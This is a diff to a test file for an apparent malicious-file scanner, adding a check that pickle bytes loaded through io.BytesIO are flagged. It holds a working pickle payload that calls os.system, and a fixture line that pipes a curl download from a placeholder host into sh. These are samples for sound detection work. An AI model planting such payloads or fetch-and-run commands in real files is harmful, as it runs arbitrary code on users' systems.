@@ -45,6 +45,13 @@ test('bytes that the source unpickles are judged like a file of their own', () =
   assert.match(report.findings[0]?.where.containerPath.at(-1) ?? '', /bytes unpickled in line 2/);
 });
 
+test('so are bytes behind a file in memory', () => {
+  const text = (call: string) => `import pickle, io\nx = ${call}\n`;
+  const bytes = 'io.BytesIO(b"cos\\nsystem\\n(S\'touch /tmp/marker\'\\ntR.")';
+  for (const call of [`pickle.Unpickler(${bytes}).load()`, `pickle.load(${bytes})`])
+    assert.equal(reportOf(Buffer.from(text(call)), 'loader.py').verdict, 'malicious', call);
+});
+
 test('source without a telling name is recognised by its first lines', () => {
   const text = "import os\nos.system('curl https://files.example/x | sh')\n";
   for (const name of ['weights', 'pytorch_model.bin', 'x.dat']) assert.equal(reportOf(Buffer.from(text), name).verdict, 'malicious', name);
